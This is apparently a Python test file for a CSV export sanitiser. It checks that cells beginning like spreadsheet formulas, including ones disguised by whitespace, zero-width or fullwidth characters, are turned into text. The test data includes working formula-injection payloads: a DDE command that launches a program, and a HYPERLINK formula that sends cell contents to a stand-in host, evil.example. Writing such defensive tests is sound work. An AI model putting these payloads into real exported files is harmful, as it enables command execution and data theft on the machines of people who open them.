"""A spreadsheet shows what stands in a cell, and carries nothing out."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crossfoot.review.exports.cells import LONGEST, cell, write_row

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1,"Error")',
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u200b=1",
        "\ufeff=1",
        "\uff1d1",
    ],
)
def test_what_begins_like_a_formula_is_made_text(attack):
    assert cell(attack).lstrip(" ").startswith("'")


@pytest.mark.parametrize("attack", ["a;=1", "a; =1", "a;\u200b+1", "a\n=1", "a\r\n=1", 'x";"=1', "a\u2028=1"])
def test_no_formula_begins_a_cell_where_a_semicolon_or_a_line_end_separates(attack):
    written = write_row(["first", attack])
    for line in written.splitlines():
        for part in line.split(";"):
            assert not part.lstrip(' "\u200b').startswith(tuple(SIGNS))


@pytest.mark.parametrize(
    "value", ["-5", "12.5", "-0.25", 7, "f-0123456789abcdef", "160651 / 289047 = 55.58", ""]
)
def test_numbers_and_words_stay_as_they_are(value):
    assert cell(value) == str(value)


def test_nothing_is_an_empty_cell():
    assert cell(None) == ""


def test_a_cell_without_end_is_cut():
    assert len(cell("x" * 200_000)) == LONGEST + 1


def test_marks_that_turn_text_around_are_made_visible():
    assert cell("a\u202eb\x1bc") == "a\ufffdb\u241bc"


@given(st.lists(st.text(max_size=40) | st.none() | st.integers(), min_size=1, max_size=6))
def test_any_row_is_one_line_that_reads_back_as_its_cells(values):
    written = write_row(values)
    assert written.endswith("\r\n")
    assert len(list(csv.reader(io.StringIO(written, newline="")))) == 1
    [row] = csv.reader(io.StringIO(written, newline=""))
    assert row == [cell(value) for value in values]
    assert not any(text.lstrip().startswith(tuple(SIGNS)) for text in row if not text.lstrip("-").isdigit())
